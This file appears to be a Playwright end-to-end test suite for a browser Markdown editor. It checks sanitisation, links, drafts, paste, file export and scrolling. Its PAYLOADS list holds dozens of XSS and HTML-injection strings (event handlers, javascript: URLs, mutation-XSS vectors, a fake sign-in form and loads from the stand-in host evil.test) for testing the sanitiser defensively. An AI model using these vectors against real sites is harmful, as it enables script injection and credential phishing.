@@ -1,0 +1,333 @@
+import { expect, test, type Page } from '@playwright/test';
+
+const area = (page: Page) => page.locator('textarea[name=input]');
+const preview = (page: Page) => page.locator('.preview');
+const html = (page: Page) => page.locator('output[name=result]');
+const editor = (page: Page) => page.locator('.source .cm-content');
+
+async function open(page: Page, input = ''): Promise<void> {
+  await page.goto(`/markdown-editor/${input === '' ? '' : `#${new URLSearchParams({ input })}`}`);
+  await expect(page.locator('form#tool')).not.toHaveAttribute('data-state', /loading|working/);
+}
+
+/** The editor over the text area, which comes with the first touch. */
+async function wake(page: Page): Promise<void> {
+  await page.locator('.source').hover();
+  await expect(editor(page)).toBeVisible();
+}
+
+/**
+ * Known ways to run a script, to load something or to stand for the page's own controls (OWASP's filter evasion cheat
+ * sheet, DOMPurify's test suite and reports of mutation XSS), as raw HTML and as Markdown.
+ */
+const PAYLOADS = [
+  '<script>window.hit=1</script>',
+  '<img src=x onerror="window.hit=1">',
+  '<svg onload="window.hit=1">',
+  '<svg><script>window.hit=1</script></svg>',
+  '<svg><animate onbegin="window.hit=1" attributeName=x dur=1s>',
+  '<math><mi//xlink:href="data:x,<script>window.hit=1</script>">',
+  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
+  '<iframe src="javascript:parent.hit=1"></iframe>',
+  '<object data="javascript:window.hit=1"></object>',
+  '<embed src="javascript:window.hit=1">',
+  '<body onload="window.hit=1">',
+  '<details open ontoggle="window.hit=1">x</details>',
+  '<video autoplay onloadstart="window.hit=1"><source src="x"></video>',
+  '<input autofocus onfocus="window.hit=1">',
+  '<a href="javascript:window.hit=1">x</a>',
+  '<a href="java\tscript:window.hit=1">x</a>',
+  '<a href="&#106;avascript:window.hit=1">x</a>',
+  '[x](javascript:window.hit=1)',
+  '[x](<java&#115;cript:window.hit=1>)',
+  '<javascript:window.hit=1>',
+  '![x](javascript:window.hit=1)',
+  '[x]\n\n[x]: vbscript:window.hit=1',
+  '![x](x"onerror="window.hit=1)',
+  '[x](https://a.bc/"onmouseover="window.hit=1)',
+  '```"><img src=x onerror=window.hit=1>\nx\n```',
+  '<form action="https://evil.test/"><input name="password"><button>Sign in</button></form>',
+  '<style>body{display:none}</style>',
+  '<link rel="stylesheet" href="https://evil.test/x.css">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
+  '<base href="https://evil.test/">',
+  '<p style="position:fixed;inset:0" class="alert">x</p>',
+  '<div id="tool" class="primary">x</div>',
+  '<img name="getElementById" id="documentElement" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
+  '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
+  '<svg></p><style><a id="</style><img src=1 onerror=window.hit=1>">',
+  '<template><img src=x onerror=window.hit=1></template>',
+  '<textarea name="input">x</textarea><select name="view"><option value="write"></select>',
+  '<table background="https://evil.test/t.png"><tr><td background="https://evil.test/d.png">x</td></tr></table>',
+  '<img srcset="https://evil.test/s.png 1x" src="https://evil.test/i.png">',
+  '<picture><source srcset="https://evil.test/p.png"><img src="https://evil.test/q.png"></picture>',
+  '<audio src="https://evil.test/a.mp3" controls></audio>',
+  '<button popovertarget="palette" onclick="window.hit=1">x</button>',
+  '<label for="palette">x</label>',
+];
+
+const LOADING = '[onload], [onerror], [onclick], [onfocus], [ontoggle], [onbegin], [onmouseover], [onloadstart]';
+const FORBIDDEN =
+  'script, style, form, iframe, object, embed, link, meta, base, svg, math, textarea, select, button, label, video, audio, picture, source, template, noscript, input:not([type=checkbox])';
+
+test('nothing that a text holds runs, loads, or stands for the page’s own controls', async ({ page }) => {
+  const asked: string[] = [];
+  page.on('request', (request) => request.url().includes('evil.test') && asked.push(request.url()));
+  await open(page);
+  for (const payload of PAYLOADS) {
+    // With a link, as an attacker would.
+    await page.evaluate((input) => {
+      location.hash = String(new URLSearchParams({ input, example: String(Math.random()) }));
+    }, `before\n\n${payload}\n\n**after**`);
+    await expect(area(page), payload).toHaveValue(new RegExp(payload.slice(0, 5).replaceAll(/\W/g, '\\$&')));
+    await expect(page.locator('form#tool')).toHaveAttribute('data-state', 'done');
+    await expect(preview(page)).toContainText('before');
+    expect(
+      await preview(page).locator(`${FORBIDDEN}, ${LOADING}, [style], [name], [srcset], [background]`).count(),
+      payload,
+    ).toBe(0);
+    const left = await preview(page).evaluate((box) =>
+      Array.from(box.querySelectorAll('*'), (element) => [
+        element.getAttribute('href') ?? '',
+        element.getAttribute('src') ?? '',
+        element.id,
+        ...element.classList,
+      ])
+        .flat()
+        .filter((value) => value !== '' && !/^(https?:|mailto:|data:image\/|language-|user-content-)/.test(value)),
+    );
+    expect(left, payload).toEqual([]);
+    expect(await html(page).textContent(), payload).not.toMatch(
+      /<script|<iframe|<form|<style|<[^>]* on\w+=|href="javascript:/i,
+    );
+  }
+  expect(await page.evaluate(() => 'hit' in window)).toBe(false);
+  expect(asked).toEqual([]);
+  await expect(page).toHaveURL(/\/markdown-editor\//);
+  await expect(page.locator('form#tool').locator('[name=view]')).toHaveCount(3);
+});
+
+test('links leave nothing behind, and those inside stay in the preview', async ({ page }) => {
+  await open(page, '[out](https://example.com/) [in](#input=gone) note[^1]\n\n[^1]: text');
+  const out = preview(page).getByRole('link', { name: 'out' });
+  await expect(out).toHaveAttribute('rel', 'noopener nofollow');
+  await expect(out).toHaveAttribute('target', '_blank');
+  await preview(page).getByRole('link', { name: 'in', exact: true }).click();
+  await expect(area(page)).toHaveValue(/^\[out\]/);
+  await preview(page).getByRole('link', { name: '1', exact: true }).click();
+  await expect(area(page)).toHaveValue(/^\[out\]/);
+});
+
+test('pictures from other sites wait for a click', async ({ page }) => {
+  const asked: string[] = [];
+  await page.route('https://pictures.test/**', (route) => {
+    asked.push(route.request().url());
+    return route.abort();
+  });
+  await open(
+    page,
+    '![far](https://pictures.test/a.png) ![near](data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7)',
+  );
+  await expect(preview(page).getByAltText('near')).toHaveAttribute('src', /^data:image\/gif/);
+  await expect(preview(page).getByAltText('far')).not.toHaveAttribute('src');
+  expect(asked).toEqual([]);
+  await page.getByRole('button', { name: 'Show pictures from other sites' }).click();
+  await expect(preview(page).locator('img').first()).toHaveAttribute('src', 'https://pictures.test/a.png');
+});
+
+for (const surface of ['text area', 'editor'] as const) {
+  test.describe(surface, () => {
+    test('the toolbar marks what is selected; again, it is taken away; undo works', async ({ page }) => {
+      await open(page);
+      if (surface === 'editor') await wake(page);
+      const place = surface === 'editor' ? editor(page) : area(page);
+      if (surface === 'editor') await place.click();
+      else await blockEditor(page);
+      await place.focus();
+      await page.keyboard.type('one word');
+      await page.keyboard.press('Control+a');
+      await page.getByRole('button', { name: 'Bold' }).click();
+      await expect(area(page)).toHaveValue('**one word**');
+      await expect(preview(page).locator('strong')).toHaveText('one word');
+      await page.keyboard.press('Control+i');
+      await expect(area(page)).toHaveValue('***one word***');
+      await page.keyboard.press('Control+b');
+      await expect(area(page)).toHaveValue('*one word*');
+      await page.keyboard.press('Control+z');
+      await page.keyboard.press('Control+z');
+      await page.keyboard.press('Control+z');
+      await expect(area(page)).toHaveValue('one word');
+      await page.keyboard.press('Control+k');
+      await expect(area(page)).toHaveValue(/\[.*\]\(https:\/\/\)/);
+      await expect(page.locator('dialog#palette')).toBeHidden();
+    });
+
+    test('Enter goes on with a list and ends it', async ({ page }) => {
+      await open(page);
+      if (surface === 'editor') await wake(page);
+      else await blockEditor(page);
+      await (surface === 'editor' ? editor(page) : area(page)).focus();
+      await page.keyboard.type('- [x] a');
+      await page.keyboard.press('Enter');
+      await page.keyboard.type('b');
+      await page.keyboard.press('Enter');
+      await page.keyboard.press('Enter');
+      await page.keyboard.type('c');
+      await expect(area(page)).toHaveValue('- [x] a\n- [ ] b\nc');
+    });
+  });
+}
+
+/** The plain text area alone: the editor's code never arrives. */
+async function blockEditor(page: Page): Promise<void> {
+  await page.route(/codemirror/i, () => {});
+}
+
+test('what is typed before the editor is there goes on in it, the caret where it was', async ({ page }) => {
+  await open(page);
+  await area(page).focus();
+  await page.keyboard.type('early ');
+  await expect(editor(page)).toBeVisible();
+  await expect(editor(page)).toBeFocused();
+  await page.keyboard.type('late');
+  await expect(area(page)).toHaveValue('early late');
+});
+
+test('a text put into the text area is in the editor too', async ({ page }) => {
+  await open(page);
+  await wake(page);
+  await area(page).fill('# From below');
+  await expect(editor(page)).toHaveText('# From below');
+  await expect(preview(page).locator('h1')).toHaveText('From below');
+});
+
+test('a box ticked in the preview is ticked in the text', async ({ page }) => {
+  await open(page, '```\n- [ ] no\n```\n\n- [ ] one\n- [x] two');
+  await preview(page).getByRole('checkbox', { name: 'one' }).click();
+  await expect(area(page)).toHaveValue(/- \[x\] one/);
+  await expect(preview(page).getByRole('checkbox', { name: 'one' })).toBeChecked();
+  await preview(page).getByRole('checkbox', { name: 'two' }).click();
+  await expect(area(page)).toHaveValue('```\n- [ ] no\n```\n\n- [x] one\n- [ ] two');
+});
+
+test('the draft is there after a reload and in another tab, until it is cleared', async ({ page, context }) => {
+  await open(page);
+  await wake(page);
+  await editor(page).click();
+  await page.keyboard.type('my draft');
+  await expect(page.getByText('Draft kept on this device')).toBeVisible();
+  await page.reload();
+  await expect(preview(page)).toHaveText('my draft');
+  await wake(page);
+  await editor(page).focus();
+  await page.keyboard.press('Control+z');
+  await expect(area(page)).not.toHaveValue('my draft');
+  await page.keyboard.press('Control+y');
+  await expect(area(page)).toHaveValue('my draft');
+  const other = await context.newPage();
+  await open(other);
+  await expect(preview(other)).toHaveText('my draft');
+  await other.getByRole('button', { name: 'Clear' }).click();
+  expect(await other.evaluate(() => localStorage.getItem('draft:markdown-editor'))).toBeNull();
+});
+
+test('a link does not cost the draft', async ({ page }) => {
+  await open(page);
+  await area(page).fill('precious');
+  await expect(page.getByText('Draft kept on this device')).toBeVisible();
+  await page.evaluate(() => (location.hash = 'input=linked'));
+  await expect(area(page)).toHaveValue('linked');
+  await area(page).fill('linked and changed');
+  await expect
+    .poll(() => page.evaluate(() => localStorage.getItem('draft:markdown-editor')))
+    .toBe('linked and changed');
+  await page.getByRole('button', { name: 'Bring back my earlier draft' }).click();
+  await expect(area(page)).toHaveValue('precious');
+});
+
+test('rich text is pasted as Markdown, plain text as it is', async ({ page }) => {
+  await open(page);
+  await wake(page);
+  const paste = (rich: string, plain: string) =>
+    editor(page).evaluate(
+      (target, [rich, plain]) => {
+        const data = new DataTransfer();
+        data.setData('text/html', rich ?? '');
+        data.setData('text/plain', plain ?? '');
+        target.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
+      },
+      [rich, plain],
+    );
+  await editor(page).click();
+  await paste(
+    '<h2>T</h2><ul><li>a <b>b</b></li><li><input type=checkbox checked>c</li></ul><table><tr><th>x<th>y<tr><td>1<td>2</table><script>1</script>',
+    'T',
+  );
+  await expect(area(page)).toHaveValue('## T\n\n- a **b**\n- [x] c\n\n| x   | y   |\n| --- | --- |\n| 1   | 2   |');
+  await page.getByRole('button', { name: 'Clear' }).click();
+  await paste('<span style="color:red">snake_case</span>', 'snake_case');
+  await expect(area(page)).toHaveValue('snake_case');
+});
+
+test('a picture is kept in the text', async ({ page }) => {
+  await open(page, 'look');
+  await wake(page);
+  const pixel = 'R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';
+  await page
+    .locator('.toolbar input[type=file]')
+    .setInputFiles({ name: 'dot.gif', mimeType: 'image/gif', buffer: Buffer.from(pixel, 'base64') });
+  await expect(area(page)).toHaveValue(
+    new RegExp(`!\\[dot\\]\\[picture-1\\][^]*\\n\\[picture-1\\]: data:image/gif;base64,${pixel}\\n$`),
+  );
+  await expect(preview(page).getByAltText('dot')).toHaveAttribute('src', /^data:image\/gif/);
+});
+
+test('files are opened, saved and exported', async ({ page }) => {
+  await open(page);
+  await page
+    .locator('input[name=file]')
+    .setInputFiles({ name: 'a.md', mimeType: 'text/markdown', buffer: Buffer.from('# My *page*\n') });
+  await expect(preview(page).locator('h1')).toHaveText('My page');
+  const [markdown] = await Promise.all([
+    page.waitForEvent('download'),
+    page.getByRole('button', { name: 'Save .md' }).click(),
+  ]);
+  expect(markdown.suggestedFilename()).toBe('my-page.md');
+  const [whole] = await Promise.all([
+    page.waitForEvent('download'),
+    page.getByRole('button', { name: 'Export HTML' }).click(),
+  ]);
+  expect(whole.suggestedFilename()).toBe('my-page.html');
+  const text = await (await whole.createReadStream()).toArray();
+  expect(Buffer.concat(text).toString()).toMatch(/<title>My page<\/title>[^]*<h1>My <em>page<\/em><\/h1>/);
+});
+
+test('the two sides scroll in step, by their headings', async ({ page }) => {
+  const part = (name: string) => `## ${name}\n\n${'A sentence that is long enough to fill its line. '.repeat(30)}\n\n`;
+  await open(page, ['One', 'Two', 'Three', 'Four', 'Five'].map((name) => part(name)).join('- a\n- b\n\n'));
+  await wake(page);
+  const scroller = page.locator('.source .cm-scroller');
+  await scroller.evaluate((box) => (box.scrollTop = box.scrollHeight));
+  await expect
+    .poll(() => preview(page).evaluate((box) => box.scrollHeight - box.clientHeight - box.scrollTop))
+    .toBeLessThan(3);
+  await preview(page).hover();
+  await preview(page).evaluate((box) => (box.scrollTop = 0));
+  await expect.poll(() => scroller.evaluate((box) => box.scrollTop)).toBeLessThan(3);
+});
+
+test('a text too long for a text area is in the editor, whole', async ({ page }) => {
+  await open(page);
+  await wake(page);
+  await area(page).fill(`# Long\n\n${'word '.repeat(20_000)}`);
+  await expect(page.locator('output[name=words]')).toHaveAttribute('data-value', '20001', { timeout: 20_000 });
+  await expect(editor(page)).toContainText('# Long');
+  await page.locator('.source .cm-scroller').evaluate((box) => (box.scrollTop = 0));
+  await editor(page).locator('.cm-line').first().click();
+  await page.keyboard.press('Home');
+  await page.keyboard.type('#');
+  await expect(preview(page).locator('h2')).toHaveText('Long', { timeout: 20_000 });
+  expect(await page.evaluate(() => localStorage.getItem('draft:markdown-editor')?.length)).toBeGreaterThan(100_000);
+});
